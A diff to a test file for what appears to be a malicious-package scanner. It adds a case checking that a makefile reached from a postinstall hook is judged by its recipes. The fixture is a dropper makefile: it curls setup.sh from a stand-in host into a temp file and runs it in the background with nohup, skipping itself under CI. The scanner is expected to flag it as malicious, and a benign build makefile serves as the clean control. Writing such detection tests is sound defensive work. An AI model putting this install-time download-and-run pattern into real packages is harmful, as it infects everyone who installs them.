@@ -285,6 +285,26 @@ def test_shell_file_that_downloads_then_runs_is_a_dropper():
     assert "install-script/download-execute" not in rules(artifact({"install": "sh get.sh"}, {"get.sh": fetch_only}))
 
 
+def test_makefile_a_hook_runs_is_judged_by_its_recipes():
+    # blind set 43's typosquat: `make -f scripts/build.mk setup` whose recipe downloads a script to a temp file named by
+    # a make variable and runs it in the background
+    makefile = (b"MIRROR ?= http://192.0.2.146/ev\nTMPF := $(shell mktemp)\n\n.PHONY: setup\nsetup:\n"
+                b"\t@[ -z \"$$CI\" ] || exit 0; \\\n\t(curl -fsSL $(MIRROR)/setup.sh -o $(TMPF)) && (nohup sh $(TMPF) >/dev/null 2>&1 &)\n")
+    found = findings(artifact({"postinstall": "make -s -f scripts/build.mk setup >/dev/null 2>&1 || true"},
+                              {"scripts/build.mk": makefile}))
+    drop = next(f for f in found if f.rule == "install-script/download-execute")
+    assert drop.file == "scripts/build.mk" and drop.line == 6 and "192.0.2.146/ev/setup.sh" in drop.snippet
+    assert decide(found).level is Level.MALICIOUS
+    # The root Makefile a plain `make` reads, and one in the folder `-C` names, are run too.
+    assert "install-script/download-execute" in rules(artifact({"install": "make"}, {"Makefile": makefile}))
+    assert "install-script/download-execute" in rules(artifact({"install": "make -C native all"}, {"native/Makefile": makefile}))
+    # A native build's makefile compiles; its recipes are no finding above low.
+    build = (b"CC ?= cc\nCFLAGS := -O2 -fPIC\n\nall: build/addon.o\n\nbuild/%.o: src/%.c\n\t@mkdir -p build\n"
+             b"\t$(CC) $(CFLAGS) -c $< -o $@\n\nclean:\n\t-rm -rf build\n")
+    quiet = findings(artifact({"install": "make all"}, {"Makefile": build}))
+    assert max(f.severity for f in quiet) <= Severity.LOW and decide(quiet).level is Level.CLEAN
+
+
 def test_shell_file_that_downloads_then_starts_a_file_it_does_not_ship_in_the_background_is_a_dropper():
     # blind set 33's registry-tarball-stage: another package's tarball fetched with `npm pack`, one file cut out of it,
     # and that file left running
